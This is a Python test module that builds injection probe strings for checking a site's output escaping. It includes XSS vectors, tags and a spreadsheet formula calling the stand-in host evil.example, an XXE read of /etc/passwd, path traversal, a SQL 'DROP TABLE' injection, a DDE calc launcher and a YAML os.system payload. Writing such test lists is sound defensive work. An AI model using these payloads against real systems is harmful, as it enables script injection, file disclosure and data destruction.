"""Strings that try to be more than text, for each place that a site writes text to."""

from __future__ import annotations

_RUN = "document.documentElement.dataset.hit=1"
_MARKUP = (
    f"<script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'>",
    f"<details open ontoggle={_RUN}>",
    f"<body onload={_RUN}>",
    f"<style>@import 'https://evil.example/';</style><style onload={_RUN}>",
    f"<math><mtext></math><img src onerror={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example/><button>按</button></form>",
    "<object data=https://evil.example/x></object><embed src=https://evil.example/y>",
    "<plaintext><xmp><noscript><template><textarea><select><title>",
    "<!--",
    "<![CDATA[<script>]]>",
    "]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&lt;script&gt; &amp;amp; &#60;script&#62; &e;",
)
_ADDRESSES = (
    f"javascript:{_RUN}",
    f"[链接](javascript:{_RUN})",
    f'![图](x "onerror={_RUN}")',
    f"<javascript:{_RUN}>",
    f"[甲]: javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "//evil.example/ https://evil.example/",
    "../../../../etc/passwd",
    "/etc/passwd",
    "C:\\Windows\\win.ini \\\\evil.example\\share",
    "CON.md aux.md NUL COM1 LPT1.txt",
    "file:///etc/passwd#?&=%00%0d%0aSet-Cookie:x=1",
)
_LANGUAGES = (
    "{{ 7*7 }} {% include '/etc/passwd' %} {# x #} ${7*7} #{7*7} <%= 7*7 %>",
    "=1+1",
    '=HYPERLINK("https://evil.example/","x")',
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    "'; DROP TABLE notices; --",
    "\" OR 1=1; ATTACH DATABASE '/x' AS y; --",
    "\\u003cscript\\u003e \\x3c \\\" \\' \\\\",
    '\',"x":"y"}]}//',
    "*/ \u2028 \u2029 //",
    "```table\nreconstructed: certain\n",
    "---\nid: 2023-04-99\n---",
    "!!python/object/apply:os.system ['true']",
    "&a [*a, *a] | > % @ `",
    "\u202e反向\u202c \u200b零宽\ufeff \u0301\u0301\u0301",
    "\ue000\U000f0000\ufffe\uffff",
    "\x0b\x1b[31m\x07\x08\x7f",
    "%s %n %(x)s {0} {x.__class__}",
    "a" * 2000,
)
_FRAMES = ("", '"', "'", '">', "</script>", "</title></textarea>")
STRINGS = tuple(frame + text for frame in _FRAMES for text in _MARKUP + _ADDRESSES + _LANGUAGES)
